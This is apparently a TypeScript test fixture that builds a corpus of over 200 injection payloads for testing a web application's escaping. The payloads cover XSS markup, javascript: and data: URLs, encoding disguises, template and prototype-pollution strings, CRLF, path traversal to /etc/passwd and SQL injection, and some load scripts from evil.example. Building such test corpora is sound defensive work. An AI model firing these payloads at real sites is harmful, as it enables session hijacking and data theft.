// Texts that are code somewhere: in HTML, an attribute, a script, a style, an address, a template, JSON. Each calls `pwned()`.

const CALL = "pwned()";

/** What a text may be inside of, and how it would get out. */
const BREAKOUTS = ["", '">', "'>", "`>", "--></", "]]>", "</title>", "</textarea>", "</script>", "</style>", "<noscript><p title=\"</noscript>", "\\\"}]}"];

/** What runs once it is markup. */
const MARKUP = [
  `<script>${CALL}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script type=module>import 'data:text/javascript,${CALL}'</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x: onerror="${CALL}" alt=`,
  `<svg onload=${CALL}>`,
  `<svg><script href=data:text/javascript,${CALL}></script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${CALL} /><text x=9 y=9>x</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></foreignObject></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src=javascript:parent.${CALL}></iframe>`,
  `<object data=javascript:${CALL}></object>`,
  `<embed src=javascript:${CALL}>`,
  `<form><button formaction=javascript:${CALL}>x</button></form>`,
  `<form action=javascript:${CALL}><input autofocus onfocus=this.form.submit()></form>`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<body onload=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<p style="background:url(javascript:${CALL})">`,
  `<p style=animation-name:x onanimationstart=${CALL}>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=modulepreload href=https://evil.example/x.js>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href=https://evil.example/>`,
  `<template shadowrootmode=open><script>${CALL}</script></template>`,
  `<a href=javascript:${CALL} autofocus onfocus=${CALL}>x</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<math><annotation-xml encoding="text/html"><p onclick=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<x onclick=${CALL} tabindex=1 id=x autofocus onfocus=${CALL}>`,
  `<dialog open onclose=${CALL}><form method=dialog>`,
  `<button popovertarget=x onclick=${CALL}>x</button><p popover id=x onbeforetoggle=${CALL}>`,
  `<partner-integrations api-base=https://evil.example business-id=b-1></partner-integrations>`,
  `<input name=getElementById><form name=cookie>`,
];

/** The same text, as a reader that decodes once too often would take it. */
const DISGUISES: ((markup: string) => string)[] = [
  (text) => text.replace(/[<>"'&]/g, (c) => `&#${c.charCodeAt(0)};`),
  (text) => text.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replace(/[<>"']/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>"']/g, (c) => `\\x${c.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/</g, "\u{FF1C}").replace(/>/g, "\u{FF1E}"),
  (text) => text.replace(/</g, "<\u0000"),
  (text) => text.replace(/ /g, "/").toUpperCase(),
  (text) => text.replace(/ /g, "\n").replace(/on/g, "oN"),
  (text) => `\u202E${text}\u202C`,
  (text) => `\uFEFF\u200B${text}`,
];
const DISGUISED = [3, 5, 11, 15].map((index) => MARKUP[index]!);

/** Addresses that run, or lead where nobody should be led. */
export const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `\u0000javascript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\r\nscript:${CALL}`,
  `javascript\n:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;avascript:${CALL}`,
  `%6aavascript:${CALL}`,
  `\u00A0javascript:${CALL}`,
  `\u2028javascript:${CALL}`,
  `javascript://https://till.example/%0a${CALL}`,
  `javascript:https://till.example/;${CALL}`,
  `https:javascript:${CALL}`,
  `ｊavascript:${CALL}`,
  `vbscript:${CALL}`,
  `livescript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `DATA:text/html,${CALL}`,
  `blob:https://till.example/${CALL}`,
  `filesystem:https://till.example/temporary/x.html`,
  `view-source:https://till.example`,
  `file:///etc/passwd`,
  `about:blank#${CALL}`,
  `//evil.example/x`,
  `///evil.example/x`,
  `/\\evil.example/x`,
  `\\\\evil.example\\x`,
  `https:/\\evil.example`,
  `https:\\\\evil.example`,
  `https:evil.example`,
  `https:///evil.example`,
  `https://user:secret@evil.example/`,
  `https://till.example@evil.example/`,
  `https://till.example\\@evil.example/`,
  `https://till.example\t@evil.example/`,
  `https://till.example/" onmouseover="${CALL}`,
  `https://till.example/' onmouseover='${CALL}`,
  `http://till.example/`,
  `ftp://till.example/`,
  `mailto:a@till.example?body=${CALL}`,
  `a@till.example?bcc=b@evil.example`,
  `"<script>${CALL}</script>"@till.example`,
  `tel:+41\u0000;javascript:${CALL}`,
  `+41;ext=javascript:${CALL}`,
];

/** What templates, styles, JSON and JavaScript's objects would make of a text. */
const OTHERS = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{7*7}}[[${CALL}]]`,
  "${" + CALL + "}",
  "#{" + CALL + "}",
  `<%= ${CALL} %>`,
  `{partner} {business} {count} {0} %s %1$s`,
  `';${CALL};//`,
  `";${CALL};//`,
  `\\";${CALL};//`,
  "`;" + CALL + ";//",
  `*/${CALL}/*`,
  `\u2028${CALL}\u2029`,
  `}};a{background:url(https://evil.example/x)}`,
  `expression(${CALL})`,
  `red;--pi-color-accent:url(https://evil.example/x)`,
  `__proto__`,
  `constructor`,
  `prototype`,
  `toString`,
  `hasOwnProperty`,
  `{"__proto__":{"pwned":true}}`,
  `","name":"x","__proto__":{"pwned":true},"a":"`,
  `]}}${CALL}`,
  `%00%0d%0aSet-Cookie:%20pwned=1`,
  `../../../../etc/passwd`,
  `..%2f..%2fsandbox%2freset`,
  `' OR '1'='1`,
  `$(${CALL})`,
  `\u202Eexe.\u2066${CALL}`,
];

/** All of them, each once: more than 200. */
export const PAYLOADS: string[] = [
  ...new Set([
    ...MARKUP,
    ...BREAKOUTS.slice(1).flatMap((out) => DISGUISED.map((markup) => out + markup)),
    ...DISGUISES.flatMap((disguise) => DISGUISED.map(disguise)),
    ...ADDRESSES,
    ...OTHERS,
  ]),
];

/** What a person may see of a text from outside: one line of it, without what is invisible, and not all of a long one. */
export function shown(text: string): string {
  const invisible = /[\u00AD\u061C\u200B\u200E\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/g;
  const words = text.split(/[\p{White_Space}\p{Cc}]/u).map((word) => word.replace(invisible, ""));
  const line = [...words.filter(Boolean).join(" ")];
  return line.length > 160 ? `${line.slice(0, 160).join("")}…` : line.join("");
}
